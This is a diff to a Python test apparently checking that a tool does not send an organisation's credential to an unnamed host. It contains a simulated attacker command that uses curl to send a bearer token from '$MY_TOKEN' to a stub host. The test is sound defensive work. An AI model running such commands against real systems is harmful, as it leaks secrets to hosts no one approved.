@@ -113,7 +113,8 @@ def test_the_orgs_credential_source_is_not_sent_to_a_host_the_org_did_not_name(a
             attacker.env["ENVGIT_ORG_POLICY"] = str(org)
             hp = hostport(stub, "stub.example.test")
             netproject(attacker, git, stub, "irreversible: []\n"
-                       f"credentials:\n  mine:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hp}\"]\n")
+                       f"credentials:\n  mine:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{hp}\"]\n",
+                       trust=False)                # refused at load: nothing to approve
             r = attacker.run(f"curl -s -o /dev/null -H \"Authorization: Bearer $MY_TOKEN\" https://{hp}/x; "
                              "echo ran")
             assert "ran" in r.stdout or r.returncode == 125, r.stdout + r.stderr
